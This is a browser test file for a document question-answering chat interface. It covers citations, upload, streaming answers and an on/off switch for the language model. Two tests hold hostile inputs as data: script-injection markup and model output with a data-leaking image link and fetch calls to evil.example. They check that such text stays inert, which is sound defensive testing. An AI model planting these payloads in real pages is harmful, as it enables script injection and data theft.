from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from tests.helpers.browser import GRADIO_WARNING, Visitor, served_window, visiting
from tests.ui.fake_bot import LOCAL_MODEL, REMOTE_MODEL, STOPPED, WRITTEN, FakeBot

pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings(GRADIO_WARNING)]


@pytest.fixture
def bot(tmp_path: Path) -> FakeBot:
    return FakeBot(tmp_path / "documents")


@pytest.fixture
def url(bot: FakeBot) -> Iterator[str]:
    with served_window(bot, status_seconds=1.0) as served:
        yield served


@pytest.fixture
def visitor(chromium: Browser, url: str) -> Iterator[Visitor]:
    with visiting(chromium, url) as opened:
        yield opened
        assert opened.errors == []
        assert [one for one in opened.requests if not one.startswith((url, "data:", "blob:"))] == []


def test_a_question_is_answered_with_a_conflict_and_citations_open(visitor: Visitor) -> None:
    page = visitor.page
    visitor.ask("When was the bridge opened?")
    answer = page.locator("#conversation .turn .answer")
    expect(answer.locator(".text")).to_contain_text("The bridge was opened on 12 May 1931")
    expect(answer.locator(".conflict .kind")).to_have_text("Dates differ")
    expect(answer.locator(".conflict .value")).to_have_text(["12 May 1931", "3 June 1931"])
    answer.get_by_role("button", name="Source 2, Le pont de l’Orne").click()
    panel = page.get_by_role("dialog")
    expect(panel.locator("mark")).to_have_text(re.compile("^Le pont sur l’Orne fut ouvert"))
    expect(panel.locator("mark strong")).to_have_text("3 juin 1931")
    expect(panel).to_contain_text("Les travaux du port prirent du retard.")
    expect(panel).to_contain_text("p. 2")
    expect(panel.get_by_role("button", name="Close")).to_be_focused()
    page.keyboard.press("Escape")
    expect(panel).to_have_count(0)
    expect(answer.get_by_role("button", name="Source 2, Le pont de l’Orne")).to_be_focused()
    answer.locator(".conflict .card button").first.click()
    expect(panel.locator("mark strong")).to_have_text("12 May 1931")


def test_a_citation_belongs_to_its_own_turn(visitor: Visitor) -> None:
    page = visitor.page
    visitor.ask("When was the toll lifted?")
    visitor.ask("When was the bridge opened?")
    visitor.ask("When was the toll lifted?")
    turns = page.locator("#conversation .turn")
    for place, value in ((1, "12 May 1931"), (0, "1934"), (1, "12 May 1931"), (2, "1934")):
        turns.nth(place).locator("button.cite").first.click()
        expect(page.locator(".panel mark strong")).to_have_text(value)


def test_the_same_citation_opens_again_after_closing(visitor: Visitor) -> None:
    visitor.ask("When was the toll lifted?")
    for _ in range(2):
        visitor.page.locator("#conversation button.cite").click()
        visitor.page.get_by_role("button", name="Close").click()
        expect(visitor.page.locator(".panel")).to_have_count(0)


def test_a_refusal_offers_the_nearest_passages(visitor: Visitor) -> None:
    visitor.ask("Qui a peint le pont ?")
    nearest = visitor.page.locator(".nearest")
    expect(nearest).to_contain_text("Passages les plus proches")
    nearest.locator(".card button").nth(1).click()
    expect(visitor.page.locator(".panel mark")).to_contain_text("The toll was lifted")


def test_the_answer_grows_before_the_readers_eyes(visitor: Visitor) -> None:
    page = visitor.page
    page.evaluate(
        """() => {
            window.seen = [];
            new MutationObserver(() => {
                const text = document.querySelector("#live .text")?.innerText;
                if (text && text !== window.seen.at(-1)) window.seen.push(text);
            }).observe(
                document.querySelector("#live"), {childList: true, subtree: true, characterData: true}
            );
        }"""
    )
    visitor.ask("When was the bridge opened?")
    seen = page.evaluate("window.seen")
    assert len(seen) > 3
    assert seen[-1].startswith(seen[0])
    assert len(seen[0]) < len(seen[-1])


def test_examples_and_a_new_conversation(visitor: Visitor, bot: FakeBot) -> None:
    page = visitor.page
    page.get_by_role("button", name="When was the toll lifted?").click()
    expect(page.locator("#conversation .turn .answer .text")).to_contain_text("1934")
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator(".welcome")).to_be_visible()
    visitor.ask("When was the bridge opened?")
    assert [len(history) for _, history in bot.asked] == [0, 0]


def test_errors_are_sentences_in_the_chat(visitor: Visitor) -> None:
    visitor.ask("lock it")
    expect(visitor.page.locator(".turn .notice")).to_have_text(
        "The index is being written by <another> process; try again in a moment."
    )
    visitor.ask("break it")
    expect(visitor.page.locator(".turn .notice").nth(1)).to_contain_text("Something went wrong")
    expect(visitor.page.locator("body")).not_to_contain_text("secret detail")


def test_the_banner_appears_and_a_rebuild_with_progress_clears_it(visitor: Visitor, bot: FakeBot) -> None:
    page = visitor.page
    expect(page.locator(".banner")).to_have_count(0)
    (bot.folder / "new.txt").write_text("x")
    expect(page.locator(".banner")).to_contain_text("1 document changed since the index was built.")
    bot.rebuild_seconds = 2.0
    page.locator(".banner").get_by_role("button", name="Rebuild").click()
    expect(page.get_by_role("progressbar", name="Embedding the passages")).to_be_visible()
    expect(page.locator("#notice")).to_contain_text("The index is up to date: 7 passages")
    expect(page.locator("#notice")).to_contain_text("1 added")
    expect(page.locator(".banner")).to_have_count(0)


def test_documents_are_listed_added_and_removed(visitor: Visitor, bot: FakeBot, tmp_path: Path) -> None:
    page = visitor.page
    visitor.show_documents()
    rows = page.locator("table.documents tbody tr")
    expect(rows).to_have_count(2)
    expect(rows.filter(has_text="Le pont de l’Orne")).to_contain_text("indexed")
    for name in ("Résumé 1.txt", "virus.exe", "secret.broken"):
        (tmp_path / name).write_text("x")
    page.locator("#upload input[type=file], input[type=file]").first.set_input_files(
        [tmp_path / "Résumé 1.txt", tmp_path / "virus.exe", tmp_path / "secret.broken"]
    )
    expect(page.locator("#notice")).to_contain_text("virus.exe: Files of the type '.exe' cannot be read")
    expect(rows.filter(has_text="Résumé 1.txt")).to_contain_text("added")
    expect(rows.filter(has_text="secret.broken")).to_contain_text("The file is encrypted")
    expect(page.locator(".banner")).to_contain_text("2 documents changed")

    remove = page.get_by_role("button", name="Remove Résumé 1.txt")
    remove.click()
    question = page.get_by_role("alertdialog")
    expect(question).to_contain_text("Résumé 1.txt")
    question.get_by_role("button", name="Cancel").click()
    expect(question).to_have_count(0)
    assert (bot.folder / "Résumé 1.txt").exists()
    remove.click()
    question.get_by_role("button", name="Remove").click()
    expect(page.locator("#notice")).to_contain_text("Removed: Résumé 1.txt.")
    expect(rows).to_have_count(3)
    assert not (bot.folder / "Résumé 1.txt").exists()


def test_markup_and_templates_in_a_question_stay_text(visitor: Visitor) -> None:
    hostile = "<img src=x onerror=alert(1)> ${alert(1)} {{value}} `"
    visitor.ask(hostile)
    expect(visitor.page.locator(".question")).to_contain_text(hostile)
    expect(visitor.page.locator("#conversation img")).to_have_count(0)


def test_the_window_can_be_used_by_keyboard_alone(visitor: Visitor) -> None:
    page = visitor.page
    visitor.ask("When was the toll lifted?")
    page.locator("#question textarea").focus()
    for _ in range(12):
        page.keyboard.press("Shift+Tab")
        if page.evaluate("document.activeElement.className") == "cite":
            break
    page.keyboard.press("Enter")
    expect(page.locator(".panel mark strong")).to_have_text("1934")


@pytest.fixture
def writer(bot: FakeBot) -> FakeBot:
    bot.language_model, bot.writes_by_default = LOCAL_MODEL, True
    return bot


def begin(visitor: Visitor, question: str) -> None:
    visitor.page.locator("#question textarea").fill(question)
    visitor.page.locator("#question textarea").press("Enter")
    expect(visitor.page.locator("#live .text")).to_contain_text("12 May 1931")


def test_a_written_answer_grows_and_marks_what_is_not_supported(writer: FakeBot, visitor: Visitor) -> None:
    page = visitor.page
    writer.flowing.clear()
    begin(visitor, "When was the bridge opened?")
    expect(page.locator("#live .waiting")).to_contain_text("llama3.2 is writing")
    expect(page.locator("#live :is(a, img, .text button)")).to_have_count(0)
    writer.flowing.set()
    answer = page.locator("#conversation .turn .answer")
    expect(answer.locator(".byline")).to_contain_text("Written by llama3.2")
    expect(answer.locator(".unsupported")).to_have_text("It had brought in 40,000 francs a year.")
    expect(answer.get_by_role("note")).to_have_text("not supported")
    expect(answer.locator(".doubts")).to_contain_text("“40,000 francs” does not stand in the passage cited.")
    expect(answer.locator(".conflict .kind")).to_have_text("Dates differ")
    answer.get_by_role("button", name="Source 3, The bridge of Orne").click()
    expect(page.locator(".panel mark strong")).to_have_text("1934")


def test_the_writing_is_stopped_by_its_button(writer: FakeBot, visitor: Visitor) -> None:
    page = visitor.page
    writer.flowing.clear()
    begin(visitor, "When was the bridge opened?")
    page.get_by_role("button", name="Stop").click()
    answer = page.locator("#conversation .turn .answer")
    expect(answer.get_by_role("status")).to_have_text(STOPPED)
    expect(answer.locator(".text")).to_contain_text("12 May 1931")
    expect(answer.locator(".text")).not_to_contain_text("40,000")


def test_the_stop_button_can_be_pressed_by_keyboard_while_the_text_grows(
    writer: FakeBot, visitor: Visitor
) -> None:
    page = visitor.page
    writer.found.clear()
    page.locator("#question textarea").fill("When was the bridge opened?")
    page.locator("#question textarea").press("Enter")
    stop = page.get_by_role("button", name="Stop")
    stop.focus()
    writer.flowing.clear()
    writer.found.set()
    expect(page.locator("#live .text")).to_contain_text("12 May 1931")
    expect(stop).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("#conversation .turn .notice")).to_have_text(STOPPED)
    expect(page.locator("#question textarea")).to_be_focused()


def test_a_new_conversation_or_a_closed_page_stops_the_writing(
    chromium: Browser, url: str, writer: FakeBot
) -> None:
    writer.flowing.clear()
    with visiting(chromium, url) as visitor:
        begin(visitor, "When was the bridge opened?")
        visitor.page.get_by_role("button", name="New conversation").click()
        expect(visitor.page.locator(".welcome")).to_be_visible()
        expect(visitor.page.locator("#live .turn")).to_have_count(0)
        assert writer.drafts[0].stopped()
        begin(visitor, "When was the bridge opened?")
    with visiting(chromium, url) as visitor:
        visitor.page.get_by_role("switch").click()
        expect(visitor.page.get_by_role("switch")).not_to_be_checked()
        visitor.ask("When was the toll lifted?")
        assert wait_for(writer.drafts[1].stopped)


def wait_for(happened: Callable[[], bool]) -> bool:
    """Wait until something has happened, half a minute at most."""
    late = time.monotonic() + 30
    while not happened() and time.monotonic() < late:
        time.sleep(0.05)
    return happened()


def test_the_switch_turns_the_writing_off_and_on(writer: FakeBot, visitor: Visitor) -> None:
    page = visitor.page
    switch = page.get_by_role("switch", name="Answers written by llama3.2")
    expect(switch).to_be_checked()
    expect(page.locator("#writer")).to_contain_text("On this machine (localhost:11434).")
    switch.press("Space")
    expect(switch).not_to_be_checked()
    expect(switch).to_be_focused()
    expect(page.locator("#writer")).to_contain_text("Off: answers are made of quotes alone.")
    visitor.ask("When was the toll lifted?")
    expect(page.locator(".byline")).to_have_count(0)
    switch.press("Space")
    expect(switch).to_be_checked()
    visitor.ask("When was the bridge opened?")
    expect(page.locator(".byline")).to_have_count(1)
    assert writer.asked_writer == [False, True]


def test_without_a_language_model_there_is_no_switch(visitor: Visitor) -> None:
    expect(visitor.page.get_by_role("switch")).to_have_count(0)


def test_nothing_a_language_model_writes_is_fetched_or_followed(writer: FakeBot, visitor: Visitor) -> None:
    hostile = (
        "![x](http://127.0.0.1:1/leak?q=secret) [click](http://evil.example/) "
        "<img src=http://evil.example/x> <a href='javascript:alert(1)'>y</a> http://evil.example/ "
        "${fetch('http://evil.example')} {{value}} [1]"
    )
    writer.script = f"It was 12 May 1931. {hostile}\n\n" + "And so it went on. " * 8
    writer.written = replace(WRITTEN, text=f"{hostile}\n\n~~{hostile}~~ [?1]", note=hostile)
    page = visitor.page
    writer.flowing.clear()
    begin(visitor, "When was the bridge opened?")
    expect(page.locator("#live .text")).to_contain_text("${fetch('http://evil.example')} {{value}}")
    expect(page.locator("#live .text")).not_to_contain_text("leak?q=secret")
    expect(page.locator("#live").locator("a, img")).to_have_count(0)
    writer.flowing.set()
    expect(page.locator("#conversation .text")).to_contain_text("<img src=http://evil.example/x> <a href=")
    expect(page.locator("#conversation").locator("a, img")).to_have_count(0)


def test_the_switch_says_in_french_what_leaves_the_machine(
    chromium: Browser, url: str, writer: FakeBot
) -> None:
    writer.language_model = REMOTE_MODEL
    with visiting(chromium, url, locale="fr-FR", width=390, height=844) as visitor:
        said = "Vos questions et les passages trouvés sont envoyés à api.example.org."
        expect(visitor.page.locator(".outside")).to_have_text(said)
        assert visitor.page.evaluate("document.documentElement.scrollWidth") <= 390


def test_the_words_follow_the_browsers_language(chromium: Browser, url: str) -> None:
    with visiting(chromium, url, locale="fr-FR", dark=True, width=390, height=844) as visitor:
        page = visitor.page
        expect(page.get_by_role("heading", name="Posez une question sur vos documents")).to_be_visible()
        expect(page.get_by_role("button", name="Demander")).to_be_visible()
        visitor.ask("When was the bridge opened?")
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        visitor.show_documents()
        expect(page.get_by_role("button", name="Ajouter des fichiers")).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= 390


def test_the_composer_stays_in_view(visitor: Visitor) -> None:
    for _ in range(2):
        visitor.ask("When was the bridge opened?")
    visitor.page.evaluate("window.scrollTo(0, 0)")
    expect(visitor.page.locator("#question textarea")).to_be_in_viewport()


def test_a_question_asked_while_the_model_loads_waits_for_it(chromium: Browser, bot: FakeBot) -> None:
    bot.loaded.clear()
    with served_window(bot) as url, visiting(chromium, url) as visitor:
        page = visitor.page
        expect(page.locator(".loading")).to_contain_text("The model is loading")
        page.locator("#question textarea").fill("When was the toll lifted?")
        page.get_by_role("button", name="Ask", exact=True).click()
        expect(page.locator("#live .waiting")).to_contain_text("The model is loading")
        bot.loaded.set()
        expect(page.locator("#conversation .turn .text")).to_contain_text("1934")
        expect(page.locator(".loading")).to_have_count(0)
